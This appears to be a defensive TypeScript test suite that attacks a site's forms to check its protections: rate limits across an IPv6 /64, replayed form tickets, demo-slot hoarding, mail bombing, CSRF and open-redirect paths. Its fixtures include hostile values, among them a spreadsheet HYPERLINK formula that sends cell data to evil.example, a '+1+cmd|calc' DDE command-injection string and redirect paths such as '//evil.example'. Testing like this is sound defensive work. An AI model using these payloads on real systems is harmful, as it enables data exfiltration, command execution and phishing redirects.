// Threat: the site's forms turned into weapons (issue 39, point 7). Tried against the real Directus and
// the production site: an attacker with a whole IPv6 /64 (or one IPv4 address written two ways) trying
// to escape the rate limit; a script posting JSON straight to /api/forms without a page; a page's
// ticket replayed long after; one visitor booking every free demo time; a victim's mailbox bombed
// through the forms; a signed-in visitor's booking moved or cancelled from another site.
// Visitor addresses come through X-Forwarded-For (the test site trusts loopback as its proxy).
import { randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { admin, adminToken, stack } from '../support/admin';
import { freeSlots, ipSequence } from '../support/demo-times';
import { createUser } from '../support/firebase';
import { formTicket } from '../support/form-ticket';
import { messagesTo } from '../support/mailbox';
import { newTicket } from '../../src/forms/ticket.server';

const tag = Date.now().toString(36);
const newIp = ipSequence(39);
/** A /64 of its own for each test (documentation prefix 2001:db8::/32), random so runs never share one. */
const newPrefix = () => `2001:db8:${randomBytes(2).toString('hex')}:${randomBytes(2).toString('hex')}`;
const site = (path: string) => `${stack().siteUrl}${path}`;
const origin = () => new URL(stack().siteUrl).origin;

type Answer = { status: number; body: Record<string, unknown>; retryAfter: string | null };

/** A JSON submission as the island sends it (with its page's ticket unless `ticket` says otherwise). */
async function post(kind: string, body: Record<string, unknown>, ip: string, ticket?: string): Promise<Answer> {
  const res = await fetch(site(`/api/forms/${kind}`), {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': ip },
    body: JSON.stringify({ _ticket: ticket ?? (await formTicket(stack().siteUrl)), locale: 'en', source: '/blog', ...body }),
  });
  return { status: res.status, body: z.record(z.string(), z.unknown()).parse(await res.json()), retryAfter: res.headers.get('retry-after') };
}

/** A new visitor account, signed in through the account page: its session cookie. */
async function signedIn(email: string, password: string): Promise<string> {
  await createUser(email, password);
  const signin = await fetch(site('/account'), {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: origin(), 'x-forwarded-for': newIp() },
    body: new URLSearchParams({ intent: 'signin', email, password }),
  });
  const cookie = signin.headers.getSetCookie()[0]?.split(';')[0] ?? '';
  expect(cookie).toMatch(/^__session=.+/);
  return cookie;
}

const hidden = (html: string, name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(html)?.[1] ?? '';
let blogFr = '';

/** The French blog's newsletter form posted without JavaScript, with the page's own hidden fields. */
async function plainNewsletter(email: string, ip: string, ticket = hidden(blogFr, '_ticket')) {
  const res = await fetch(site('/fr/blog'), {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': ip },
    body: new URLSearchParams({ _form: 'newsletter', _block: hidden(blogFr, '_block'), _ticket: ticket, email, consent: 'on' }),
  });
  return { status: res.status, html: await res.text(), retryAfter: res.headers.get('retry-after') };
}

const stored = async (email: string) =>
  z.array(z.unknown()).parse(await (await admin()).get(`/items/form_submissions?filter[email][_eq]=${encodeURIComponent(email)}&fields=id`)).length;

const demo = (email: string, slot?: string) => ({
  name: 'Élise Tremblay',
  company: `Thermo ${tag}`,
  email,
  role: 'energy_advisor',
  consent: true,
  source: '/demo',
  ...(slot ? { slot, timeZone: 'America/Toronto' } : {}),
});

beforeAll(async () => {
  blogFr = await (await fetch(site('/fr/blog'), { headers: { 'x-forwarded-for': newIp() } })).text();
  expect(hidden(blogFr, '_ticket')).toMatch(/^\d+\./);
  // A person takes longer than the test site's fill time (1 s) to fill the form in.
  await new Promise((r) => setTimeout(r, 1_100));
});

describe('an attacker with many addresses of one network', () => {
  it('eight addresses of one IPv6 /64 get five newsletter sign-ups in ten minutes, the rest a clear "too many attempts" with Retry-After', async () => {
    const prefix = newPrefix();
    const answers: Answer[] = [];
    const first = Date.now();
    for (let i = 1; i <= 8; i++) answers.push(await post('newsletter', { email: `v6-${i}-${tag}@example.ca`, consent: true }, `${prefix}::${i.toString(16)}`));
    expect(answers.map((a) => a.status)).toEqual([201, 201, 201, 201, 201, 429, 429, 429]);
    for (const refused of answers.slice(5)) {
      expect(refused.body).toEqual({ error: 'form.rateLimited' });
      // The true wait: the window opened with the first sign-up, moments ago, and lasts ten minutes.
      expect(Number(refused.retryAfter)).toBeGreaterThanOrEqual(600 - Math.ceil((Date.now() - first) / 1000) - 1);
      expect(Number(refused.retryAfter)).toBeLessThanOrEqual(600);
    }
    expect(await stored(`v6-6-${tag}@example.ca`)).toBe(0);
    // The next /64 is another household.
    expect((await post('newsletter', { email: `v6-next-${tag}@example.ca`, consent: true }, `${newPrefix()}::1`)).status).toBe(201);
  });

  it('the same without JavaScript: the sixth post from the /64 gets the French page saying so, the address kept, and Retry-After', async () => {
    const prefix = newPrefix();
    const first = Date.now();
    const statuses: number[] = [];
    for (let i = 1; i <= 5; i++) statuses.push((await plainNewsletter(`plain-v6-${i}-${tag}@example.ca`, `${prefix}:${i}::${i}`)).status);
    expect(statuses).toEqual([303, 303, 303, 303, 303]);
    const email = `plain-v6-6-${tag}@example.ca`;
    const refused = await plainNewsletter(email, `${prefix}:ffff:ffff:ffff:ffff`);
    expect(refused.status).toBe(429);
    expect(Number(refused.retryAfter)).toBeGreaterThanOrEqual(600 - Math.ceil((Date.now() - first) / 1000) - 1);
    expect(Number(refused.retryAfter)).toBeLessThanOrEqual(600);
    expect(refused.html).toContain('Trop de tentatives depuis votre connexion.');
    expect(refused.html).toContain(`value="${email}"`);
    expect(await stored(email)).toBe(0);
  });

  it('counts an IPv4 address and its IPv4-mapped IPv6 spelling as one visitor', async () => {
    const ip = newIp();
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const from = i % 2 === 0 ? ip : `::ffff:${ip}`;
      statuses.push((await post('newsletter', { email: `mapped-${i}-${tag}@example.ca`, consent: true }, from)).status);
    }
    expect(statuses).toEqual([201, 201, 201, 201, 201, 429]);
  });
});

describe('a script posting JSON straight to /api/forms', () => {
  it('is refused without a ticket of ours, or sooner than a person fills a form, and nothing is stored', async () => {
    const email = `script-${tag}@example.ca`;
    const none = await fetch(site('/api/forms/newsletter'), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': newIp() },
      body: JSON.stringify({ email, consent: true, locale: 'en' }),
    });
    expect(none.status).toBe(400);
    expect(await none.json()).toMatchObject({ error: 'form.tooFast' });
    expect((await post('newsletter', { email, consent: true }, newIp(), `${Date.now() - 60_000}.AAAAAAAAAAAAAAAAAAAAAA`)).body).toMatchObject({
      error: 'form.tooFast',
    });
    // A ticket just given, posted at once: too fast, with how long a person would still have taken.
    // (Signed here, not read from a page: a loaded machine may take the fill time to serve the page.)
    process.env['LINK_SECRET'] = stack().secrets.linkSecret;
    const fresh = newTicket(Date.now());
    const quick = await post('newsletter', { email, consent: true }, newIp(), fresh);
    expect(quick.status).toBe(400);
    expect(quick.body['error']).toBe('form.tooFast');
    expect(Number(quick.body['waitMs'])).toBeGreaterThan(0);
    expect(Number(quick.body['waitMs'])).toBeLessThanOrEqual(1_000);
    expect(await stored(email)).toBe(0);
    // The same ticket, once a person could have filled the form: taken.
    await new Promise((r) => setTimeout(r, Number(quick.body['waitMs']) + 50));
    expect((await post('newsletter', { email, consent: true }, newIp(), fresh)).status).toBe(201);
  });

  it('cannot replay a ticket past its maximum age: "this form expired", in the visitor’s language, the values kept, and a new ticket for the island', async () => {
    process.env['LINK_SECRET'] = stack().secrets.linkSecret;
    const old = newTicket(Date.now() - 7 * 3_600_000);
    const email = `expired-${tag}@example.ca`;
    const json = await post('newsletter', { email, consent: true }, newIp(), old);
    expect(json.status).toBe(400);
    expect(json.body['error']).toBe('form.expired');
    expect(typeof json.body['ticket']).toBe('string');
    const plain = await plainNewsletter(email, newIp(), old);
    expect(plain.status).toBe(400);
    expect(plain.html).toContain('Ce formulaire est resté ouvert longtemps et a expiré.');
    expect(plain.html).toContain(`value="${email}"`);
    expect(await stored(email)).toBe(0);
    // The island sends again with the ticket it was given, once a person's fill time has passed.
    await new Promise((r) => setTimeout(r, 1_100));
    expect((await post('newsletter', { email, consent: true }, newIp(), String(json.body['ticket']))).status).toBe(201);
  });
});

describe('one visitor and the free demo times', () => {
  it('books one upcoming demo per e-mail address; a second is refused with a clear message, and the time stays free', async () => {
    const [first, second] = await freeSlots(2, 12, { pick: 'last' });
    if (!first || !second) throw new Error('no times');
    const email = `one-demo-${tag}@example.ca`;
    expect((await post('demo', demo(email, first), newIp())).status).toBe(201);
    const again = await post('demo', demo(email.toUpperCase(), second), newIp());
    expect(again).toMatchObject({ status: 409, body: { error: 'form.alreadyBooked' } });
    const holders = z
      .array(z.object({ email: z.string() }))
      .parse(await (await admin()).get(`/items/demo_requests?filter[starts_at][_eq]=${encodeURIComponent(second)}&fields=email`));
    expect(holders).toEqual([]);
    // A request without a time is still welcome.
    expect((await post('demo', demo(email), newIp())).status).toBe(201);
  });

  it('books at most three demos a day from one /64, whatever the addresses typed, then says so with Retry-After', async () => {
    const slots = await freeSlots(4, 13, { pick: 'last' });
    const prefix = newPrefix();
    const answers: Answer[] = [];
    for (const [i, slot] of slots.entries()) answers.push(await post('demo', demo(`taker-${i}-${tag}@example.ca`, slot), `${prefix}::${i + 1}`));
    expect(answers.map((a) => a.status)).toEqual([201, 201, 201, 429]);
    expect(answers[3]?.body).toEqual({ error: 'form.bookingLimit' });
    expect(Number(answers[3]?.retryAfter)).toBeGreaterThan(86_000);
  });
});

describe('a mail bomb through the forms', () => {
  it('sends one mailbox at most five e-mails an hour, whichever forms and +tags ask, and answers every ask alike', async () => {
    const victim = `victim-${tag}@example.ca`;
    const answers: Answer[] = [];
    // Each ask from another network, so the per-visitor limit is not what stops it.
    for (let i = 0; i < 6; i++) answers.push(await post('newsletter', { email: victim.replace('@', `+${i}@`), consent: true }, `${newPrefix()}::1`));
    expect(answers.map((a) => [a.status, a.body['status']])).toEqual(Array.from({ length: 6 }, () => [201, 'received']));
    // And a data request on top: the page answers as for any address, and sends nothing.
    const asked = await fetch(site('/my-data'), {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: origin(), 'x-forwarded-for': newIp() },
      body: new URLSearchParams({ email: victim, action: 'export' }),
    });
    expect(asked.status).toBe(303);
    expect(asked.headers.get('location')).toBe('/my-data?done=sent');
    // Five reached the mailbox, and no more come.
    const inbox = async () =>
      (await Promise.all(Array.from({ length: 6 }, (_, i) => messagesTo(victim.replace('@', `+${i}@`))))).flat().length + (await messagesTo(victim)).length;
    // Generous: mail under a loaded CI goes out at about one every two seconds.
    const deadline = Date.now() + 45_000;
    while ((await inbox()) < 5 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
    await new Promise((r) => setTimeout(r, 1_500));
    expect(await inbox()).toBe(5);
  });
});

describe('a signed-in visitor’s booking from another site', () => {
  it('cannot be cancelled by a post from another origin (CSRF), only from the site’s own page', async () => {
    const email = `csrf-${tag}@example.com`;
    const cookie = await signedIn(email, 'correct-horse-1');
    const [slot] = await freeSlots(1, 14, { pick: 'last' });
    if (!slot) throw new Error('no time');
    const booked = await fetch(site('/api/forms/demo'), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': newIp(), cookie },
      body: JSON.stringify({ _ticket: await formTicket(stack().siteUrl), locale: 'en', ...demo(email, slot) }),
    });
    expect(booked.status).toBe(201);
    const { reference } = z.object({ reference: z.string() }).parse(await booked.json());
    const holder = async () =>
      z
        .array(z.object({ email: z.string() }))
        .parse(await (await admin()).get(`/items/demo_requests?filter[starts_at][_eq]=${encodeURIComponent(slot)}&fields=email`));
    for (const headers of [{ origin: 'https://evil.example' }, { origin: 'null' }, {}, { origin: origin(), 'sec-fetch-site': 'cross-site' }] as Record<
      string,
      string
    >[]) {
      const forged = await fetch(site(`/account/demos/${reference}`), {
        method: 'POST',
        redirect: 'manual',
        headers: { 'content-type': 'application/x-www-form-urlencoded', cookie, 'x-forwarded-for': newIp(), ...headers },
        body: 'intent=cancel',
      });
      // 403 from the route's own check; React Router itself answers 400 to an Origin naming another host.
      expect([400, 403], JSON.stringify(headers)).toContain(forged.status);
    }
    expect(await holder()).toEqual([{ email }]);
    const own = await fetch(site(`/account/demos/${reference}`), {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie, origin: origin(), 'x-forwarded-for': newIp() },
      body: 'intent=cancel',
    });
    expect(own.status).toBe(303);
    expect(await holder()).toEqual([]);
  });
});

describe('an account holder who booked with someone else’s address', () => {
  it('cannot move the booking back and forth to write to them: the mailbox’s cap holds, the move answered "too many attempts"', async () => {
    const email = `mover-${tag}@example.com`;
    const victim = `move-victim-${tag}@example.ca`;
    const cookie = await signedIn(email, 'correct-horse-2');
    const [first, a, b] = await freeSlots(3, 21, { pick: 'last' });
    if (!first || !a || !b) throw new Error('no times');
    const booked = await fetch(site('/api/forms/demo'), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': newIp(), cookie },
      body: JSON.stringify({ _ticket: await formTicket(stack().siteUrl), locale: 'en', ...demo(victim, first) }),
    });
    expect(booked.status).toBe(201);
    const { reference } = z.object({ reference: z.string() }).parse(await booked.json());
    // Each move from a new address (the per-visitor limit is not what holds here).
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const moved = await fetch(site(`/account/demos/${reference}`), {
        method: 'POST',
        redirect: 'manual',
        headers: { 'content-type': 'application/x-www-form-urlencoded', cookie, origin: origin(), 'x-forwarded-for': newIp() },
        // a, b, a, b, then a again (b is its own time by then).
        body: new URLSearchParams({ intent: 'move', slot: i % 2 === 0 || i >= 4 ? a : b }),
      });
      statuses.push(moved.status);
      if (moved.status === 429) expect(Number(moved.headers.get('retry-after'))).toBeGreaterThan(0);
      await moved.arrayBuffer();
    }
    // The confirmation and four moves: five e-mails in the hour, the sixth and seventh refused.
    expect(statuses).toEqual([303, 303, 303, 303, 429, 429]);
    const deadline = Date.now() + 45_000;
    while ((await messagesTo(victim)).length < 5 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
    await new Promise((r) => setTimeout(r, 1_500));
    expect((await messagesTo(victim)).length).toBe(5);
    // The booking stayed where the last allowed move put it.
    const row = z
      .array(z.object({ starts_at: z.string() }))
      .parse(await (await admin()).get(`/items/demo_requests?filter[reference][_eq]=${reference}&fields=starts_at`));
    expect(row.map((r) => new Date(r.starts_at).toISOString())).toEqual([new Date(b).toISOString()]);
    // Cancelling still works, and frees the time, but writes to them no more this hour.
    const cancelled = await fetch(site(`/account/demos/${reference}`), {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie, origin: origin(), 'x-forwarded-for': newIp() },
      body: 'intent=cancel',
    });
    expect(cancelled.status).toBe(303);
    const after = z
      .array(z.object({ starts_at: z.string().nullable() }))
      .parse(await (await admin()).get(`/items/demo_requests?filter[reference][_eq]=${reference}&fields=starts_at`));
    expect(after).toEqual([{ starts_at: null }]);
    await new Promise((r) => setTimeout(r, 1_500));
    expect((await messagesTo(victim)).length).toBe(5);
  });
});

describe('a form’s page, which sales get as a link', () => {
  it('is kept only as a path of this site: one a URL parser would read as another site is made this site’s, the request taken', async () => {
    for (const [i, [source, kept]] of [
      ['/\t/evil.example/login', '/evil.example/login'],
      ['/\n/evil.example', '/evil.example'],
      ['/\\evil.example', '/evil.example'],
      ['//evil.example', '/evil.example'],
      ['/ok/\u0007', '/ok/'],
    ].entries()) {
      const email = `source-${i}-${tag}@example.ca`;
      const sent = await post('demo', { ...demo(email), source }, newIp());
      expect(sent.status, JSON.stringify(source)).toBe(201);
      const rows = z
        .array(z.object({ source: z.string().nullable() }))
        .parse(await (await admin()).get(`/items/demo_requests?filter[email][_eq]=${encodeURIComponent(email)}&fields=source`));
      expect(
        rows.map((r) => r.source ?? ''),
        JSON.stringify(source),
      ).toEqual([kept]);
    }
  });
});

describe('a visitor’s click id in sales’ spreadsheet', () => {
  it('reaches the Google Ads export as text, never as a formula (=, +, -, @)', async () => {
    const rest = await admin();
    const gclids = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+cmd|calc', '-2+3', '@SUM(A1)'].map((g) => `${g}${tag}`);
    for (const gclid of gclids) {
      const { id } = z.object({ id: z.number() }).parse(
        await rest.post('/items/demo_requests', {
          name: 'Formula Visitor',
          company: 'Formula Co',
          email: `formula-${gclids.indexOf(gclid)}-${tag}@example.ca`,
          role: 'other',
          industry: 'Other',
          locale: 'en',
          consent: true,
          source: '/demo',
          gclid,
        }),
      );
      await rest.patch(`/items/demo_requests/${id}`, { status: 'qualified' });
    }
    const token = await adminToken();
    const csv = await (await fetch(`${stack().directusUrl}/site-report/google-ads.csv`, { headers: { authorization: `Bearer ${token}` } })).text();
    const ours = csv.split('\r\n').filter((line) => line.includes(tag));
    expect(ours).toHaveLength(4);
    // Every cell of ours starts with a quote mark inside its quotes: a spreadsheet shows it as text.
    for (const line of ours) expect(line).toMatch(/^"'[=+\-@]/);
  });
});
